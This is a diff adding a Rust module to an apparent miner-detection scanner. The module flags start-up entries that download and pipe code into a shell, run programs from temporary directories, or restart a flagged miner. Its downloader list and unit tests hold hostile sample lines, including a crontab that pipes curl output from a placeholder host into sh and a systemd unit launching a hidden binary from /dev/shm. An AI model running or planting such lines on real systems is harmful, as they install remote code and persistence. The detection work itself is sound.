@@ -1,0 +1,393 @@
+//! Persistence findings: start-up entries that download and run code, start
+//! programs from temporary places, or restart a process the scan flagged.
+
+use super::{Evidence, Finding, Remedy, Severity, Subject, Technique};
+use crate::collect::persistence::{PersistFile, PersistKind};
+use crate::escape::escape;
+use crate::rules::{Kind, Rules};
+
+/// A process the scan flagged, for linking start-up entries to it.
+#[derive(Debug, Clone)]
+pub struct Flagged {
+    pub pid: i32,
+    pub name: String,
+    /// Executable path on disk (without " (deleted)"), if it is a file.
+    pub exe: Option<String>,
+    pub malicious: bool,
+}
+
+/// Programs that fetch from the network (and renamed copies miners use).
+const DOWNLOADERS: &[&str] = &[
+    "curl",
+    "wget",
+    "wge",
+    "cur",
+    "fetch",
+    "tftp",
+    "lwp-download",
+    "ftp",
+    "scp",
+];
+const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash"];
+
+fn basename(s: &str) -> &str {
+    s.rsplit('/').next().unwrap_or(s)
+}
+
+/// Words of a shell command line that are executed: the first word of each
+/// command (after `;`, `&&`, `||`, `|`, `(`, `` ` ``, `$(`, `then`, `do`, ...),
+/// the word after a wrapper (`nohup`, `exec`, `setsid`, `nice`, `sudo`, `env`),
+/// and the script a shell is given (`sh /tmp/x.sh`).
+fn executed_words(cmd: &str) -> Vec<String> {
+    let mut spaced = cmd.replace("$(", " ; ");
+    for sep in ["&&", "||", ";", "|", "(", ")", "`", "&"] {
+        spaced = spaced.replace(sep, " ; ");
+    }
+    const KEYWORDS: &[&str] = &[
+        "then", "do", "else", "elif", "if", "while", "until", "!", "{",
+    ];
+    const WRAPPERS: &[&str] = &[
+        "nohup", "exec", "setsid", "nice", "sudo", "env", "time", "timeout", "busybox", "stdbuf",
+        "ionice", "chrt", "taskset",
+    ];
+    let mut out = Vec::new();
+    let mut at_start = true;
+    let mut after_shell = false;
+    for w in spaced.split_whitespace() {
+        let w = w.trim_matches(|c| c == '"' || c == '\'');
+        if w == ";" {
+            at_start = true;
+            after_shell = false;
+            continue;
+        }
+        if at_start {
+            if KEYWORDS.contains(&w) || w.contains('=') && !w.starts_with('/') {
+                continue; // keyword or VAR=value prefix
+            }
+            out.push(w.to_string());
+            at_start = WRAPPERS.contains(&basename(w)) || w.starts_with('-');
+            after_shell = SHELLS.contains(&basename(w));
+            continue;
+        }
+        if after_shell
+            && (w == "-c" || w.ends_with('c') && w.starts_with('-') && !w.starts_with("--"))
+        {
+            at_start = true; // `sh -c 'CMD'`: CMD is a command line
+            after_shell = false;
+            continue;
+        }
+        if after_shell && !w.starts_with('-') {
+            out.push(w.to_string()); // the script a shell runs
+            after_shell = false;
+        }
+    }
+    out
+}
+
+/// The executed words of one line of a start-up file of this kind.
+fn commands_of(line: &str, kind: PersistKind, system_crontab: bool) -> Vec<String> {
+    match kind {
+        PersistKind::Crontab => {
+            let t = line.trim_start();
+            // `NAME=value` lines set the environment of later jobs.
+            let first = t.split_whitespace().next().unwrap_or("");
+            if first.contains('=')
+                && !first.starts_with(|c: char| c.is_ascii_digit() || c == '*' || c == '@')
+            {
+                return Vec::new();
+            }
+            let fields = if t.starts_with('@') { 1 } else { 5 } + usize::from(system_crontab);
+            let mut rest = t;
+            for _ in 0..fields {
+                rest = rest.trim_start();
+                rest = rest.find(char::is_whitespace).map_or("", |i| &rest[i..]);
+            }
+            executed_words(rest)
+        }
+        PersistKind::SystemdUnit => {
+            let t = line.trim_start();
+            let Some((key, value)) = t.split_once('=') else {
+                return Vec::new();
+            };
+            if !key.trim().starts_with("Exec") {
+                return Vec::new();
+            }
+            executed_words(value.trim_start_matches(['-', '@', '+', '!', ':']))
+        }
+        PersistKind::SshKeys => Vec::new(),
+        _ => executed_words(line),
+    }
+}
+
+/// Why a line is bad, if it is: (reasons, strong, linked miner PID). Strong
+/// means it downloads-and-runs or restarts a flagged process; a program run
+/// from a temporary place alone is reported but not removed from a whole
+/// script or unit by `quarry fix`.
+fn judge_line(
+    line: &str,
+    kind: PersistKind,
+    system_crontab: bool,
+    temp_dirs: &[&str],
+    flagged: &[Flagged],
+) -> (Vec<String>, bool, Option<i32>) {
+    let mut reasons = Vec::new();
+    let mut strong = false;
+    let mut linked = None;
+    let tokens: Vec<&str> = line
+        .split(|c: char| {
+            c.is_whitespace() || matches!(c, ';' | '&' | '(' | ')' | '`' | '"' | '\'' | '=')
+        })
+        .filter(|t| !t.is_empty())
+        .collect();
+    // 1. Download piped into a shell.
+    let downloads = tokens.iter().any(|t| DOWNLOADERS.contains(&basename(t)));
+    let piped_shell = line.split('|').skip(1).any(|after| {
+        after
+            .split_whitespace()
+            .next()
+            .is_some_and(|t| SHELLS.contains(&basename(t)))
+    });
+    let b64 = line.contains("base64 -d") || line.contains("base64 --decode");
+    if (downloads || b64) && piped_shell {
+        strong = true;
+        reasons.push(if downloads {
+            "downloads code and pipes it into a shell".to_string()
+        } else {
+            "decodes base64 and pipes it into a shell".to_string()
+        });
+    }
+    // 2. A program started from a temporary place.
+    let commands = commands_of(line, kind, system_crontab);
+    if let Some(t) = commands.iter().find(|t| {
+        let lower = t.to_ascii_lowercase();
+        temp_dirs.iter().any(|d| lower.starts_with(d))
+    }) {
+        reasons.push(format!(
+            "runs {} from a temporary directory",
+            escape(t.as_bytes())
+        ));
+    }
+    // 3. Names a flagged executable or process.
+    for f in flagged {
+        let by_path = f.exe.as_ref().is_some_and(|e| line.contains(e.as_str()));
+        let by_name = f.name.len() >= 4 && commands.iter().any(|t| basename(t) == f.name);
+        if by_path || by_name {
+            reasons.push(format!(
+                "starts {}, the {} process PID {}",
+                escape(f.exe.as_deref().unwrap_or(&f.name).as_bytes()),
+                if f.malicious { "miner" } else { "suspicious" },
+                f.pid
+            ));
+            if f.malicious {
+                strong = true;
+                linked = linked.or(Some(f.pid));
+            }
+        }
+    }
+    (reasons, strong, linked)
+}
+
+/// Findings for every start-up file.
+pub fn findings(files: &[PersistFile], flagged: &[Flagged], rules: &Rules) -> Vec<Finding> {
+    let temp: Vec<&str> = rules.values(Kind::TempDir).collect();
+    let mut out = Vec::new();
+    for f in files {
+        let text = String::from_utf8_lossy(&f.content);
+        let mut file_flagged = false;
+        for (i, line) in text.lines().enumerate() {
+            let trimmed = line.trim_start();
+            if trimmed.is_empty() || trimmed.starts_with('#') || f.kind == PersistKind::SshKeys {
+                continue;
+            }
+            let system_crontab = f.kind == PersistKind::Crontab && f.path.starts_with("/etc/");
+            let (reasons, strong, linked) =
+                judge_line(line, f.kind, system_crontab, &temp, flagged);
+            if reasons.is_empty() {
+                continue;
+            }
+            file_flagged = true;
+            let lineno = i + 1;
+            let whole_file = matches!(
+                f.kind,
+                PersistKind::CronScript | PersistKind::InitScript | PersistKind::SystemdUnit
+            );
+            let mut remedies = Vec::new();
+            if whole_file && !strong {
+                // Report only: a whole script or unit is not removed on a weak signal.
+            } else if whole_file {
+                if f.kind == PersistKind::SystemdUnit {
+                    remedies.push(Remedy::DisableUnit {
+                        path: f.path.clone(),
+                    });
+                }
+                remedies.push(Remedy::QuarantineFile {
+                    path: f.path.clone(),
+                });
+            } else {
+                remedies.push(Remedy::RemoveLine {
+                    path: f.path.clone(),
+                    line: lineno,
+                    content: line.to_string(),
+                });
+            }
+            let what = match f.kind {
+                PersistKind::Crontab => "Cron job",
+                PersistKind::CronScript => "Cron script",
+                PersistKind::SystemdUnit => "systemd unit",
+                PersistKind::InitScript => "Init script",
+                PersistKind::ShellStartup => "Shell start-up line",
+                PersistKind::SshKeys => "SSH key",
+            };
+            let mut evidence = vec![
+                Evidence::new(
+                    "file",
+                    format!("{}: {}", escape(f.path.as_bytes()), f.meta.describe()),
+                ),
+                Evidence::new("line", format!("{lineno}: {}", escape(line.as_bytes()))),
+                Evidence::new("why", reasons.join("; ")),
+            ];
+            if let Some(pid) = linked {
+                evidence.push(Evidence::new("restarts", format!("PID {pid}")));
+            }
+            evidence.push(Evidence::new(
+                "check by hand",
+                format!("sed -n {lineno}p {}", escape(f.path.as_bytes())),
+            ));
+            out.push(Finding {
+                rule: f.kind.rule().into(),
+                severity: if linked.is_some() {
+                    Severity::Critical
+                } else {
+                    Severity::High
+                },
+                verdict: None,
+                title: format!(
+                    "{what} in {} (line {lineno}) {}",
+                    escape(f.path.as_bytes()),
+                    reasons.join("; ")
+                ),
+                subject: Subject {
+                    pid: linked,
+                    path: Some(escape(f.path.as_bytes())),
+                    ..Subject::default()
+                },
+                techniques: vec![Technique::new(f.kind.technique())],
+                signals: vec![],
+                score: None,
+                evidence,
+                remedies,
+            });
+        }
+        // chattr protection on a crontab, key file, or a flagged start-up file.
+        let protect_matters =
+            file_flagged || matches!(f.kind, PersistKind::Crontab | PersistKind::SshKeys);
+        if protect_matters && (f.meta.immutable || f.meta.append_only) {
+            out.push(Finding {
+                rule: "persistence.protected".into(),
+                severity: Severity::High,
+                verdict: None,
+                title: format!(
+                    "{} is protected with chattr ({}) so it cannot be edited or deleted — a miner's self-defence",
+                    escape(f.path.as_bytes()),
+                    if f.meta.immutable { "+i" } else { "+a" }
+                ),
+                subject: Subject {
+                    path: Some(escape(f.path.as_bytes())),
+                    ..Subject::default()
+                },
+                techniques: vec![Technique::new("T1222.002")],
+                signals: vec![],
+                score: None,
+                evidence: vec![
+                    Evidence::new("file", f.meta.describe()),
+                    Evidence::new("check by hand", format!("lsattr {}", escape(f.path.as_bytes()))),
+                ],
+                remedies: vec![],
+            });
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn lines() {
+        let temp = ["/tmp/", "/dev/shm/"];
+        let (r, strong, _) = judge_line(
+            "*/5 * * * * curl -fsSL http://x/y.sh | sh",
+            PersistKind::Crontab,
+            false,
+            &temp,
+            &[],
+        );
+        assert_eq!(r, vec!["downloads code and pipes it into a shell"]);
+        assert!(strong);
+        let (r, _, _) = judge_line(
+            "* * * * * wge -q -O - http://x|bash",
+            PersistKind::Crontab,
+            false,
+            &temp,
+            &[],
+        );
+        assert_eq!(r.len(), 1);
+        let (r, _, _) = judge_line(
+            "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
+            PersistKind::Crontab,
+            true,
+            &temp,
+            &[],
+        );
+        assert!(r.is_empty());
+        let f = Flagged {
+            pid: 7,
+            name: "minerd".into(),
+            exe: Some("/tmp/minerd".into()),
+            malicious: true,
+        };
+        let (r, _, l) = judge_line(
+            "* * * * * root /tmp/minerd",
+            PersistKind::Crontab,
+            true,
+            &temp,
+            &[f],
+        );
+        assert_eq!(l, Some(7));
+        assert_eq!(r.len(), 2, "{r:?}");
+        // Arguments are not programs: x11-common creates /tmp/.X11-unix.
+        let (r, _, _) = judge_line(
+            "    mkdir -p /tmp/.X11-unix && chmod 1777 /tmp/.X11-unix",
+            PersistKind::InitScript,
+            false,
+            &temp,
+            &[],
+        );
+        assert!(r.is_empty(), "{r:?}");
+        let (r, _, _) = judge_line(
+            "ExecStart=/usr/lib/systemd/systemd-user-runtime-dir start %i",
+            PersistKind::SystemdUnit,
+            false,
+            &temp,
+            &[],
+        );
+        assert!(r.is_empty());
+        let (r, _, _) = judge_line(
+            "ExecStart=/bin/sh -c 'nohup /dev/shm/.x/kworker >/dev/null'",
+            PersistKind::SystemdUnit,
+            false,
+            &temp,
+            &[],
+        );
+        assert_eq!(r.len(), 1, "{r:?}");
+        let (r, _, _) = judge_line(
+            "[ -x /tmp/up ] && /tmp/up &",
+            PersistKind::ShellStartup,
+            false,
+            &temp,
+            &[],
+        );
+        assert_eq!(r.len(), 1, "{r:?}");
+    }
+}
